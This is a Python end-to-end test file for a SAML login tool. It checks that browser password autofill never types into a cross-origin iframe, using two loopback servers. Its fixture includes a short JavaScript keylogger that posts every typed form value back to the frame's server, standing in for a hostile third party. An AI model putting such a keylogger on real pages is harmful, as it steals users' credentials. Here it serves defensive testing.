"""End to end: Playwright auto-fill types only into the main frame or a frame of its origin.

Two loopback servers (two ports, so two origins): the page's own and a third party's. The third
party's frame shows a login form and reports every request and every keystroke it sees (a
key logger in its script) back to its server; the password must never get there. Real Chromium
(Debian's), real Playwright; these tests FAIL (never skip) when either is missing.
"""

from __future__ import annotations

import http.server
import threading
import urllib.parse

import pytest
from playwright.sync_api import sync_playwright  # noqa: F401  (a missing playwright fails collection)

from samlcreds import errors
from samlcreds.idp.base import LoginRequest
from samlcreds.idp.browser import BrowserProvider
from tests.e2e.browser_support import require_chromium, send_html

PASSWORD = "frame-pw-5e3cr3t"
SAML = "ZnJhbWVk"  # what the page's own origin posts to AWS after a good password

LOGIN_FORM = """<html><body>
<form method="post" action="/login">
  <input type="text" name="username"> <input type="password" name="password">
  <input type="submit" value="Sign in">
</form>
<script>  // a key logger: reports every value typed into the form to this frame's server
for (const el of document.querySelectorAll('input')) {
  el.addEventListener('input', () => fetch('/keys', {method: 'POST', body: el.name + '=' + el.value}));
}
</script>
</body></html>"""

SIGNED_IN = ('<html><body onload="document.forms[0].submit()"><form method="post" target="_top" '
             f'action="https://signin.aws.amazon.com/saml"><input type="hidden" name="SAMLResponse" value="{SAML}">'
             '</form></body></html>')


class Site:
    """A loopback HTTP server recording every request (method, path, body) it receives."""

    def __init__(self, pages: dict[str, str]) -> None:
        self.pages = pages
        self.received: list[tuple[str, str, str]] = []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):  # noqa: N802
                path = urllib.parse.urlsplit(self.path).path
                site.received.append(("GET", self.path, ""))
                if path in site.pages:
                    send_html(self, site.pages[path].replace("{OTHER}", site.other))
                else:
                    self.send_error(404)

            def do_POST(self):  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
                site.received.append(("POST", self.path, body))
                form = urllib.parse.parse_qs(body)
                if self.path == "/login" and form.get("password") == [PASSWORD]:
                    send_html(self, SIGNED_IN)
                else:
                    send_html(self, "<html><body>ok</body></html>")

        self.other = ""
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"

    def seen(self) -> str:
        return "\n".join(" ".join(entry) for entry in self.received)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module", autouse=True)
def chromium_available():
    return require_chromium()


@pytest.fixture
def sites():
    outer_page = '<html><body><h1>Sign in</h1><iframe src="{OTHER}/frame" width="600" height="300"></iframe></body></html>'
    own = Site({"/outer": outer_page, "/own": '<html><body><iframe src="/frame" width="600" height="300">'
                                               '</iframe></body></html>', "/frame": LOGIN_FORM})
    third = Site({"/frame": LOGIN_FORM})
    own.other = third.url
    try:
        yield own, third
    finally:
        own.close()
        third.close()


def request_for(url, tmp_path, asked, **kwargs) -> LoginRequest:
    kwargs.setdefault("headless", None)
    return LoginRequest(url=url, state_dir=tmp_path, username="frank", autofill=True, interactive=False,
                        timeout=20.0, browser_driver="playwright",
                        get_password=lambda prompt: asked.append(prompt) or PASSWORD, **kwargs)


def test_a_cross_origin_frame_never_gets_the_password(sites, tmp_path):
    own, third = sites
    asked: list[str] = []
    with pytest.raises(errors.InteractionRequired) as info:
        BrowserProvider().fetch_saml_response(request_for(own.url + "/outer", tmp_path, asked))
    assert "a frame from another site" in str(info.value) and third.url.split("//")[1] in str(info.value)
    assert ("GET", "/frame", "") in third.received  # the frame was shown (and inspected) ...
    assert PASSWORD not in third.seen() and "frank" not in third.seen()  # ... and nothing was typed into it
    assert not [entry for entry in third.received if entry[0] == "POST"]
    assert not asked  # the password was not even asked for
    assert PASSWORD not in own.seen()


def test_a_cross_origin_frame_in_forced_headless_mode_needs_the_user(sites, tmp_path):
    own, third = sites
    asked: list[str] = []
    with pytest.raises(errors.InteractionRequired) as info:
        BrowserProvider().fetch_saml_response(request_for(own.url + "/outer", tmp_path, asked, headless=True))
    assert "--headless" in str(info.value) and "a frame from another site" in str(info.value)
    assert PASSWORD not in third.seen() and not asked


def test_a_same_origin_frame_is_filled(sites, tmp_path):
    """The control: the same login form in a frame of the page's own origin is filled and submitted."""
    own, third = sites
    asked: list[str] = []
    assert BrowserProvider().fetch_saml_response(request_for(own.url + "/own", tmp_path, asked)) == SAML
    assert len(asked) == 1
    assert ("POST", "/login", f"username=frank&password={PASSWORD}") in own.received
    assert not third.received
